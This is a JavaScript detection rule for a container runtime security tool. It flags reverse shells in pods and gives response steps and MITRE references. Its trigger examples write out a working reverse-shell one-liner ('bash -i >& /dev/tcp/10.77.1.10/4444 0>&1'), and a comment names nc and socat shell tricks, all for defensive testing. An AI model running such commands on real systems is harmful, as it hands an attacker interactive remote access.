import { defineRuntimeRule } from '../rule.js';
import { commandLine, containerDetails, where } from '../describe.js';
import { SHELLS } from '../programs.js';
import { APP, WEB, child, connect, exec } from './examples.js';

// Two shapes: a shell whose stdin or stdout is a socket (`nc -e sh`, socat, python pty tricks), and
// a shell that itself connects out (`bash -i >& /dev/tcp/HOST/PORT`), which no shell does at work.
export default defineRuntimeRule({
  meta: {
    id: 'KM-RT-003',
    title: 'Reverse shell from a container',
    severity: 'critical',
    description: 'A shell in a container is wired to a network connection: its input or output is a socket, or the shell itself opened a connection out. That is how an attacker who ran one command in a pod gets an interactive session back to a machine of theirs.',
    response: 'Block the destination, isolate the pod (a deny-all NetworkPolicy), capture the container, and find how the first command got in (the exec or kubelet alert before this one). Rotate the pod\'s service-account token and every secret it mounts.',
    mitre: ['T1059.004', 'T1095'],
    references: ['https://attack.mitre.org/techniques/T1059/004/', 'https://attack.mitre.org/techniques/T1095/'],
    repeatWindowSec: 60,
  },
  on: ['exec', 'process', 'connect'],
  create: () => (e, view) => {
    if (!e.container) return undefined;
    const p = view.process(e.pid);
    if (!p || !SHELLS.has(p.program)) return undefined;
    if (e.kind === 'connect') {
      if (e.family === 'unix') return undefined;
      return { message: `shell \`${commandLine(p.argv)}\` in ${where(e.container)} connected to ${e.address}:${e.port}`, details: { ...containerDetails(e.container), destination: `${e.address}:${e.port}` } };
    }
    if (e.kind !== 'exec' && e.kind !== 'process') return undefined;
    if (e.stdin !== 'socket' && e.stdout !== 'socket') return undefined;
    return { message: `shell \`${commandLine(e.argv)}\` in ${where(e.container)} has a network socket as its ${e.stdin === 'socket' ? 'input' : 'output'}`, details: { ...containerDetails(e.container), stdin: e.stdin, stdout: e.stdout } };
  },
  examples: {
    trigger: [
      exec(APP, ['sh'], { stdin: 'socket', stdout: 'socket', ppid: 28160, parentComm: 'nc' }),
      [exec(WEB, ['bash', '-c', 'bash -i >& /dev/tcp/10.77.1.10/4444 0>&1'], { pid: 30222, binary: '/bin/bash' }), connect(WEB, '10.77.1.10', 4444, { pid: 30222, comm: 'bash' })],
    ],
    ignore: [
      exec(APP, ['sh', '-c', 'wget -qO- http://10.77.1.10:8080/'], { stdin: 'pipe' }),
      [child(APP, ['wget', 'http://10.77.1.10/'], { pid: 28200 }), connect(APP, '10.77.1.10', 80, { pid: 28200, comm: 'wget' })],
    ],
  },
});
